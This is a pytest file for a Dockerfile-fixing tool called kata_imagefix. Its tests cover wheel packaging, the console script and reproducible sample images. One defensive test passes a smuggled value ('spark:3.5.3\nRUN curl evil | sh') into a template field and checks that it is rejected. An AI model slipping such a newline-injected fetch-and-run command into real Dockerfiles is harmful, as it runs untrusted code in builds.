"""The wheel ships the templates, and the console script runs the README's main command."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import zipfile

import pytest
from conftest import ROOT, SAMPLES

from kata_imagefix.errors import ImagefixError
from kata_imagefix.fix.render import render


def test_templates_are_found_from_a_normal_wheel_install(tmp_path):
    source = tmp_path / "src"
    shutil.copytree(ROOT, source, ignore=shutil.ignore_patterns(".venv", ".git", "samples", "*.egg-info",
                                                                 "build", ".ci", "__pycache__"))
    dist = tmp_path / "dist"
    subprocess.run([sys.executable, "-m", "pip", "wheel", "--no-deps", "--no-build-isolation", "-q",
                    "-w", str(dist), str(source)], check=True, capture_output=True, timeout=300)
    wheel = next(dist.glob("kata_imagefix-*.whl"))
    names = zipfile.ZipFile(wheel).namelist()
    for template in (ROOT / "templates").glob("*.j2"):
        assert f"kata_imagefix/templates/{template.name}" in names
    for module in (ROOT / "kata_imagefix").rglob("*.py"):  # every module of every subpackage ships
        assert str(module.relative_to(ROOT)) in names, module
        assert (module.parent / "__init__.py").exists(), f"{module.parent} is not a package"
    target = tmp_path / "site"
    subprocess.run([sys.executable, "-m", "pip", "install", "--no-deps", "-q", "--target", str(target),
                    str(wheel)], check=True, capture_output=True, timeout=300)
    code = ("import kata_imagefix.fix.render as r, sys; "
            "print(r.templates_dir()); "
            "print(r.render('user.Dockerfile.j2', dict(reason='t', base_ref='x@sha256:' + 'a'*64, "
            "base_name='x', base_digest='sha256:' + 'a'*64, change='c', user='185:185')))")
    env = {**os.environ, "PYTHONPATH": str(target)}
    out = subprocess.run([sys.executable, "-c", code], env=env, check=True, capture_output=True,
                         text=True, cwd=tmp_path, timeout=60).stdout
    assert out.splitlines()[0].startswith(str(target))
    assert "USER 185:185" in out


def test_template_values_cannot_inject_instructions():
    values = dict(reason="t", base_name="x", base_digest="d", change="c", user="185:185",
                  base_ref="spark:3.5.3")
    with pytest.raises(ImagefixError, match="break the Dockerfile"):
        render("user.Dockerfile.j2", {**values, "base_ref": "spark:3.5.3\nRUN curl evil | sh"})
    with pytest.raises(ImagefixError, match="refusing USER"):
        render("user.Dockerfile.j2", {**values, "user": "0 root"})
    with pytest.raises(ImagefixError, match="break the Dockerfile"):
        render("user.Dockerfile.j2", {**values, "user": "0\\"})
    quoted = render("user.Dockerfile.j2", {**values, "change": 'say "hi" $HOME'})
    assert 'io.imagefix.change="say \\"hi\\" \\$HOME"' in quoted  # the builder would expand a bare $
    with pytest.raises(ImagefixError, match="'base_ref' is undefined"):
        render("user.Dockerfile.j2", {k: v for k, v in values.items() if k != "base_ref"})


def test_console_script_runs_the_readme_main_command():
    script = shutil.which("imagefix", path=os.path.dirname(sys.executable))
    assert script, "the imagefix console script is installed next to python"
    result = subprocess.run([script, "scan", f"oci:{SAMPLES / 'spark'}:3.5.3"], capture_output=True,
                            text=True, timeout=60, cwd=ROOT)
    assert result.returncode == 1
    assert "KIF101" in result.stdout and "KIF201" in result.stdout
    assert "USER 185:185" in result.stdout


def test_samples_are_reproduced_byte_for_byte(tmp_path):
    sys.path.insert(0, str(SAMPLES))
    import make_samples

    write = make_samples.write_oci_layout
    write(tmp_path / "spark", {"3.5.3": make_samples.spark_sample()})
    committed = {p.relative_to(SAMPLES / "spark") for p in (SAMPLES / "spark").rglob("*") if p.is_file()}
    rebuilt = {p.relative_to(tmp_path / "spark") for p in (tmp_path / "spark").rglob("*") if p.is_file()}
    assert committed == rebuilt
    for rel in committed:
        assert (SAMPLES / "spark" / rel).read_bytes() == (tmp_path / "spark" / rel).read_bytes(), rel
